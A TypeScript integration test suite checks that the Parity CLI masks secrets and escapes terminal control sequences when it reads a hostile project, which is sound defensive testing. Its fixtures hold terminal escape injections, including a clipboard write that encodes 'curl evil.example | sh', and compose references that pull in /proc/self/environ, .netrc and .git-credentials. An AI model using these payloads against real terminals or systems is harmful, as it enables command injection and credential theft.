import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadProject } from '../../src/main/config/load-project';
import { DockerEngine } from '../../src/main/engine/docker-engine';
import { down } from '../../src/main/engine/down';
import { up } from '../../src/main/engine/up';
import { DriftReportSchema } from '../../src/shared/drift';
import { runParity } from '../support/cli';
import { connectTestEngine, TEST_IMAGE, uniqueProjectName } from '../support/engine';
import { lines, makeProject } from '../support/project-dir';

// What Parity prints from a stranger's repository, run through the built `parity` as a user
// runs it (after `npm run build`): no secret, no value from the shell, no line of a file outside
// the project and no raw control sequence reaches stdout or stderr; ordinary values still show.

// Written in YAML's double-quoted escapes, so the files hold the raw control characters.
const TITLE_YAML = '\\e]0;pwned\\a';
const CLEAR_YAML = '\\e[2J\\e[H';
const CLIPBOARD_YAML = '\\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\a';
const CONTROLS = `${TITLE_YAML}${CLEAR_YAML}${CLIPBOARD_YAML}\\x9b2J`;

// Nothing a terminal obeys: C0 but line feed and tab, DEL, C1.
// eslint-disable-next-line no-control-regex -- asserting no control character is printed
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

const TOKEN = 'ghp_SHELLTOKEN0123456789abcdef';
const SECRETS = ['hunter4', 'hunter5', 'pwd-1111', 'signing-2222', 'AKIA3333', 'sk_live_4444'];

const ENV = { ...process.env, GH_PAT: TOKEN, PARITY_TEST_MARKER: 'environ-marker-5555' };

function writeFiles(root: string, files: Record<string, string>): void {
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), content);
  }
}

function service(env: Record<string, string>, image = 'busybox:1.37'): string[] {
  return [
    'services:',
    '  web:',
    `    image: ${image}`,
    '    environment:',
    ...Object.entries(env).map(([key, value]) => `      ${key}: ${value}`),
  ];
}

const drift = makeProject('hostile-output', {
  'compose.yaml': lines(
    ...service({
      NOTE: '"token=${GH_PAT}"',
      DB_PASS: SECRETS[0] ?? '',
      MYSQL_PWD: SECRETS[2] ?? '',
      SESSION_SIGNING_KEY: SECRETS[3] ?? '',
      AWS_ACCESS_KEY_ID: SECRETS[4] ?? '',
      STRIPE_KEY: SECRETS[5] ?? '',
      DATABASE_URL: 'postgres://app:hunter4@db/x',
      KEYCLOAK_URL: 'http://keycloak.dev:8080',
      LOG_LEVEL: 'debug',
      BANNER: `"${CONTROLS}"`,
    }),
  ),
  'parity.yaml': lines('production:', '  - compose: compose.prod.yaml'),
  'compose.prod.yaml': lines(
    ...service(
      {
        NOTE: 'from-prod',
        DB_PASS: SECRETS[1] ?? '',
        MYSQL_PWD: 'other',
        SESSION_SIGNING_KEY: 'other',
        AWS_ACCESS_KEY_ID: 'other',
        STRIPE_KEY: 'other',
        DATABASE_URL: 'postgres://app:hunter5@db.prod/x',
        KEYCLOAK_URL: 'http://keycloak.prod:8080',
        LOG_LEVEL: 'info',
        BANNER: 'plain',
      },
      'busybox:1.36',
    ),
  ),
});

function expectClean(text: string): void {
  expect(text).not.toMatch(RAW_CONTROL);
  for (const secret of [...SECRETS, TOKEN, 'environ-marker-5555'])
    expect(text).not.toContain(secret);
}

describe('parity drift on a hostile project', () => {
  it.each(['table', 'json', 'markdown'])(
    'the %s format shows no secret, no shell value, no raw control character',
    async (format) => {
      const run = await runParity(['drift', '--project-directory', drift, '--format', format], ENV);
      expect(run.code).toBe(0);
      expectClean(run.stdout);
      expectClean(run.stderr);
      // Ordinary values, and where the masked ones came from, still show.
      expect(run.stdout).toContain('debug');
      expect(run.stdout).toContain('http://keycloak.dev:8080');
      expect(run.stdout).toContain('token=${GH_PAT}');
      expect(run.stdout).toContain('postgres://app:****@db/x');
      expect(run.stdout).toContain('\\u001b]52;c;');
    },
  );

  it('the JSON marks every secret of the issue as one, with only "differs"', async () => {
    const run = await runParity(['drift', '--project-directory', drift, '--json'], ENV);
    const report = DriftReportSchema.parse(JSON.parse(run.stdout));
    for (const name of ['DB_PASS', 'MYSQL_PWD', 'SESSION_SIGNING_KEY', 'AWS_ACCESS_KEY_ID']) {
      expect(report.findings.find((f) => f.path === `env.${name}`)).toMatchObject({
        secret: true,
        dev: { value: 'differs' },
        prod: { value: 'differs' },
      });
    }
    expect(report.findings.find((f) => f.path === 'env.KEYCLOAK_URL')?.secret).toBe(false);
  });
});

describe('parity drift against Kubernetes Secret references', () => {
  it('treats a secretKeyRef and an envFrom secretRef as secret, whatever the names', async () => {
    const dir = makeProject('k8s-secrets', {
      'compose.yaml': lines(...service({ SESSION_SEED: 'seed-dev-1111', GREETING: 'hello' })),
      'parity.yaml': lines('production:', '  - kubernetes: k8s'),
      'k8s/app.yaml': lines(
        'apiVersion: v1',
        'kind: Secret',
        'metadata: { name: bulk }',
        'stringData: { SESSION_SEED: seed-prod-2222, GREETING: hola-secret-3333 }',
        '---',
        'apiVersion: apps/v1',
        'kind: Deployment',
        'metadata: { name: web }',
        'spec:',
        '  template:',
        '    spec:',
        '      containers:',
        '        - name: web',
        `          image: ${TEST_IMAGE}`,
        '          envFrom: [{ secretRef: { name: bulk } }]',
      ),
    });
    for (const format of ['table', 'json', 'markdown']) {
      const run = await runParity(['drift', '--project-directory', dir, '--format', format], ENV);
      expect(run.code).toBe(0);
      for (const value of ['seed-dev-1111', 'seed-prod-2222', 'hola-secret-3333', 'hello']) {
        expect(`${run.stdout}${run.stderr}`).not.toContain(value);
      }
      expect(run.stdout).toContain('differs');
    }
  });
});

describe('parity snapshot --from files on a hostile project', () => {
  it('writes secrets, URL passwords and shell values only as hashes', async () => {
    const run = await runParity(['snapshot', '--project-directory', drift], ENV);
    expect(run.code).toBe(0);
    expectClean(run.stdout);
    const env = (
      JSON.parse(run.stdout) as { services: { web: { environment: Record<string, unknown> } } }
    ).services.web.environment;
    for (const name of ['NOTE', 'DB_PASS', 'STRIPE_KEY', 'DATABASE_URL']) {
      expect(env[name]).toHaveProperty('sha256');
    }
    expect(env.LOG_LEVEL).toBe('debug');
  });
});

describe('diagnostics on files outside the project', () => {
  // Files beside the project, as a home folder's would be: referenced with ../
  const root = dirname(makeProject('unused', {}));
  writeFiles(root, {
    'outside/.netrc': 'machine git.example login me password netrc-secret-6666\n',
    'outside/.git-credentials': 'https://me:gitcred-secret-7777@git.example\n',
    'outside/passwd': 'root:x:0:0:root-gecos-8888:/root:/bin/sh\n',
  });

  it.each([
    ['extends of /proc/self/environ', '    extends: { file: /proc/self/environ, service: x }'],
    ['extends of a passwd file', '    extends: { file: ../outside/passwd, service: x }'],
    ['env_file of a .netrc', '    env_file: ../outside/.netrc'],
  ])('%s: an error at file:line, quoting nothing of the file', async (_what, line) => {
    const dir = join(root, `p${Math.random().toString(36).slice(2)}`);
    writeFiles(dir, {
      'compose.yaml': lines('services:', '  web:', `    image: ${TEST_IMAGE}`, line),
    });
    const run = await runParity(['config', '--project-directory', dir], ENV);
    expect(run.code).toBe(2);
    expect(run.stderr).toMatch(/:\d+:\d+: error: /);
    expectClean(run.stderr);
    for (const leak of ['netrc-secret', 'gitcred-secret', 'root-gecos', 'PATH=']) {
      expect(run.stderr).not.toContain(leak);
    }
    expect(run.stderr.length).toBeLessThan(2000);
  });

  it('an env_file of .git-credentials reads as Compose reads it, its password masked in drift', async () => {
    const dir = join(root, 'gitcred');
    writeFiles(dir, {
      'compose.yaml': lines(
        'services:',
        '  web:',
        `    image: ${TEST_IMAGE}`,
        '    env_file: ../outside/.git-credentials',
      ),
      'parity.yaml': lines('production:', '  - compose: prod.yaml'),
      'prod.yaml': lines('services:', '  web:', `    image: ${TEST_IMAGE}`),
    });
    for (const format of ['table', 'json', 'markdown']) {
      const run = await runParity(['drift', '--project-directory', dir, '--format', format], ENV);
      expect(run.code).toBe(0);
      expect(run.stdout).toContain('//me:****@git.example');
      expect(`${run.stdout}${run.stderr}`).not.toContain('gitcred-secret');
    }
  });
});

describe('control characters in the files', () => {
  it('parity config prints them escaped, and the project still reads', async () => {
    const dir = makeProject('controls', {
      'compose.yaml': lines(...service({ BANNER: `"${CONTROLS}"`, LOG_LEVEL: 'debug' })),
    });
    const run = await runParity(['config', '--project-directory', dir], ENV);
    expect(run.code).toBe(0);
    expectClean(run.stdout);
    expect(run.stdout).toContain('LOG_LEVEL: debug');
  });

  it('an error quoting a value shows an escaped excerpt', async () => {
    const dir = makeProject('controls-error', {
      'compose.yaml': lines(
        'services:',
        '  web:',
        `    image: ${TEST_IMAGE}`,
        `    ports: ["${CONTROLS}${'x'.repeat(5000)}"]`,
      ),
    });
    const run = await runParity(['config', '--project-directory', dir], ENV);
    expect(run.code).toBe(2);
    expect(run.stderr).toMatch(/^compose\.yaml:4:\d+: error: /m);
    expectClean(run.stderr);
    expect(run.stderr).toContain('\\u001b]0;pwned');
    expect(run.stderr.length).toBeLessThan(1000);
  });
});

// Container output is the containers' own, and `docker compose logs` passes it raw; but the
// containers run a stranger's commands, so `parity logs` keeps their colours (SGR: they cannot
// move the cursor, retitle, clear or write the clipboard) and escapes every other control.
describe('parity logs of a container printing control sequences', () => {
  const engine = DockerEngine.fromEnvironment();
  const name = uniqueProjectName('parity-it-hostile-logs');
  const dir = makeProject('hostile-logs', {
    'compose.yaml': lines(
      'services:',
      '  talker:',
      `    image: ${TEST_IMAGE}`,
      '    init: true',
      `    command: [sh, -c, "printf '\\\\033[31mred\\\\033[0m \\\\033]0;pwned\\\\007\\\\033[2J\\\\033]52;c;Y3VybA==\\\\007 done\\\\n'; sleep 600"]`,
    ),
  });

  beforeAll(async () => {
    await connectTestEngine();
    const { project, diagnostics } = loadProject({ dir, projectName: name, env: {} });
    if (!project) throw new Error(diagnostics.map((d) => d.message).join('\n'));
    expect((await up(engine, project)).failed).toEqual([]);
  });

  afterAll(async () => {
    await down(engine, name, { volumes: true, timeoutSeconds: 0 });
  });

  it('shows the line with its colour, the other sequences escaped', async () => {
    let run = await runParity(['logs', '-p', name, '--project-directory', dir], ENV);
    for (let i = 0; i < 20 && !run.stdout.includes('done'); i++) {
      await new Promise((resolve) => setTimeout(resolve, 250));
      run = await runParity(['logs', '-p', name, '--project-directory', dir], ENV);
    }
    expect(run.code).toBe(0);
    expect(run.stdout).toContain('\u001b[31mred\u001b[0m');
    expect(run.stdout).toContain('\\u001b]0;pwned\\u0007');
    expect(run.stdout).toContain('\\u001b]52;c;Y3VybA==');
    expect(run.stdout).not.toContain('\u001b]');
    expect(run.stdout).not.toContain('\u001b[2J');
    expect(run.stdout).not.toContain('\u0007');
  });
});
